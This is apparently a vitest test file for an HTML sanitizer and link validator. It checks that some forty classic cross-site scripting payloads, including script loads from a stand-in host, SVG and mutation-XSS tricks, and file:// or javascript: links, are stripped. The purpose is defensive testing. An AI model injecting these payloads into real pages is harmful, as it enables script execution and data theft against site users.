import { parseHTML } from "linkedom";
import { describe, expect, it } from "vitest";
import { safeLink, sanitizeHtml } from "../../../../cells/views/report/sanitize-html";

/*
 * Payloads are classic cross-site scripting vectors as listed in the OWASP "XSS Filter
 * Evasion Cheat Sheet" (OWASP Foundation) and the HTML5 Security Cheatsheet (Heiderich),
 * plus two published mutation-XSS shapes (noscript / math-style, Heiderich et al. 2013,
 * "mXSS Attacks", CCS) — all reproduced from memory.
 */
const PAYLOADS = [
  `<script>alert(1)</script>`,
  `<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>`,
  `<img src=x onerror=alert(1)>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
  `<a href="jav&#x09;ascript:alert(1)">tab</a>`,
  `<a href=" &#14; javascript:alert(1)">lead</a>`,
  `<a href="JaVaScRiPt:alert(1)">case</a>`,
  `<a href="vbscript:msgbox(1)">vb</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>`,
  `<svg onload=alert(1)>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg><a xlink:href="javascript:alert(1)"><text x="1" y="1">x</text></a></svg>`,
  `<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>`,
  `<svg><set attributeName="onmouseover" to="alert(1)"/></svg>`,
  `<svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x"/></svg>`,
  `<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>`,
  `<svg><style>@import url(http://xss.example/a.css);</style></svg>`,
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<body onload=alert(1)>`,
  `<div style="background:url(javascript:alert(1))">bg</div>`,
  `<div style="width: expression(alert(1))">ie</div>`,
  `<div style="background:\\75 rl(x)">esc</div>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
  `<form><button formaction=javascript:alert(1)>X</button></form>`,
  `<input onfocus=alert(1) autofocus>`,
  `<details open ontoggle=alert(1)>d</details>`,
  `<object data="javascript:alert(1)"></object>`,
  `<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">`,
  `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
  `<link rel=stylesheet href=http://xss.example/x.css>`,
  `<style>@import 'http://xss.example/x.css';</style>`,
  `<!--<img src=x onerror=alert(1)>-->`,
  `<template><script>alert(1)</script></template>`,
  `<textarea><img src=x onerror=alert(1)></textarea>`,
  `<title><img src=x onerror=alert(1)></title>`,
  `<x onclick=alert(1)>click</x>`,
  `<img src="http://xss.example/track.png" alt="tracker">`,
  `<a href="//xss.example/">protocol-relative</a>`,
  `<base href="http://xss.example/">`,
  `<table background="javascript:alert(1)"><tr><td>t</td></tr></table>`,
];

const FORBIDDEN_ELEMENTS = new Set(["script", "style", "iframe", "object", "embed", "meta", "link", "base", "form", "button", "textarea", "animate", "set", "foreignobject", "template", "noscript", "math", "title", "body"]);

/** Walks the sanitised output as a browser-like parser sees it and lists every dangerous thing found. */
function dangers(html: string): string[] {
  const { document } = parseHTML("<!DOCTYPE html><html><body><div></div></body></html>");
  const root = document.querySelector("div")!;
  root.innerHTML = html;
  const found: string[] = [];
  const visit = (node: Element, inSvg: boolean) => {
    for (const child of Array.from(node.children)) {
      const name = child.localName.toLowerCase();
      const svg = inSvg || name === "svg";
      if (FORBIDDEN_ELEMENTS.has(name) && !(svg && name === "title")) found.push(`element ${name}`);
      for (const attr of Array.from(child.attributes)) {
        const key = attr.name.toLowerCase();
        const value = attr.value.replace(/[\u0000-\u0020]/g, "").toLowerCase();
        if (key.startsWith("on")) found.push(`handler ${key}`);
        if (/^(href|src|xlink:href|action|formaction|data|background)$/.test(key)) {
          if (/^(javascript|vbscript|data):/.test(value) && !(key === "src" && /^data:image\/(png|jpeg|gif|webp);base64,/.test(value))) found.push(`${key}=${value}`);
          if (key === "src" && /^(https?:)?\/\//.test(value)) found.push(`remote ${key}`);
          if (svg && (key === "href" || key === "xlink:href") && !value.startsWith("#")) found.push(`svg ${key}`);
        }
        if (key === "style" && /url\(|expression|\\/.test(value)) found.push(`style ${value}`);
      }
      visit(child, svg);
    }
  };
  visit(root, false);
  return found;
}

describe("sanitizeHtml", () => {
  it("sanitizeHtml(classic XSS payloads) leaves no script, handler, dangerous URL or remote resource", () => {
    for (const payload of PAYLOADS) {
      const out = sanitizeHtml(payload);
      expect(dangers(out), `${payload} → ${out}`).toEqual([]);
      expect(out, payload).not.toMatch(/<script|<style|<iframe|javascript:|onerror|onload/i);
    }
  });

  it("sanitizeHtml(output) is a fixed point: sanitising twice changes nothing", () => {
    for (const payload of PAYLOADS) {
      const once = sanitizeHtml(payload);
      expect(sanitizeHtml(once), payload).toBe(once);
    }
  });

  it("sanitizeHtml(ordinary prose) keeps formatting, tables, safe links and inline images", () => {
    const html =
      '<h2 id="intro">Intro</h2><p>a <strong>b</strong> <em>c</em> <code>d &lt; e</code></p>' +
      '<table><thead><tr><th align="center">k</th></tr></thead><tbody><tr><td align="center">1</td></tr></tbody></table>' +
      '<p><a href="https://example.org/x?a=1&amp;b=2">web</a> <a href="#intro">here</a> <a href="mailto:a@example.org">mail</a></p>' +
      '<p><img src="data:image/png;base64,iVBORw0KGgo=" alt="dot"></p><ul><li><input type="checkbox" checked> done</li></ul>';
    expect(sanitizeHtml(html)).toBe(
      '<h2 id="intro">Intro</h2><p>a <strong>b</strong> <em>c</em> <code>d &lt; e</code></p>' +
        '<table><thead><tr><th align="center">k</th></tr></thead><tbody><tr><td align="center">1</td></tr></tbody></table>' +
        '<p><a href="https://example.org/x?a=1&amp;b=2">web</a> <a href="#intro">here</a> <a href="mailto:a@example.org">mail</a></p>' +
        '<p><img src="data:image/png;base64,iVBORw0KGgo=" alt="dot"></p><ul><li><input type="checkbox" checked="" disabled=""> done</li></ul>',
    );
  });

  it("sanitizeHtml(remote image) replaces it by its alt text so the report makes no request", () => {
    expect(sanitizeHtml('<img src="https://example.org/a.png" alt="map &amp; key">')).toBe('<span class="cf-image-omitted">[image: map &amp; key]</span>');
  });

  it("sanitizeHtml(Plot-style SVG) keeps geometry, camelCase names and local clip references, drops xmlns and <style>", () => {
    const svg =
      '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10" class="plot-d6a7b5"><style>:where(.plot-d6a7b5){display:block}</style>' +
      '<clipPath id="c1"><rect width="5" height="5" /></clipPath><g clip-path="url(#c1)" aria-label="dot"><circle cx="1" cy="2" r="3" fill="#2b6a8c"><title>a &lt; b</title></circle></g>' +
      '<g fill="url(http://xss.example/p#x)"><path d="M0,0L1,1" /></g></svg>';
    expect(sanitizeHtml(svg)).toBe(
      '<svg viewBox="0 0 10 10" class="plot-d6a7b5"><clipPath id="c1"><rect width="5" height="5"></rect></clipPath>' +
        '<g clip-path="url(#c1)" aria-label="dot"><circle cx="1" cy="2" r="3" fill="#2b6a8c"><title>a &lt; b</title></circle></g>' +
        '<g><path d="M0,0L1,1"></path></g></svg>',
    );
  });

  it("sanitizeHtml(svg, {svg: false}) removes inline SVG entirely", () => {
    expect(sanitizeHtml('<p>x</p><svg><circle r="1" /></svg>', { svg: false })).toBe("<p>x</p>");
  });
});

describe("safeLink", () => {
  it("safeLink(url) accepts http(s), mailto and relative targets only", () => {
    for (const ok of ["https://a.example", "http://a.example", "mailto:x@a.example", "#top", "notes/a.html", "../b", "?q=1"]) expect(safeLink(ok), ok).toBe(true);
    for (const bad of ["javascript:alert(1)", " java\tscript:alert(1)", "data:text/html,x", "vbscript:x", "//evil.example", "file:///etc/passwd"]) expect(safeLink(bad), bad).toBe(false);
  });
});
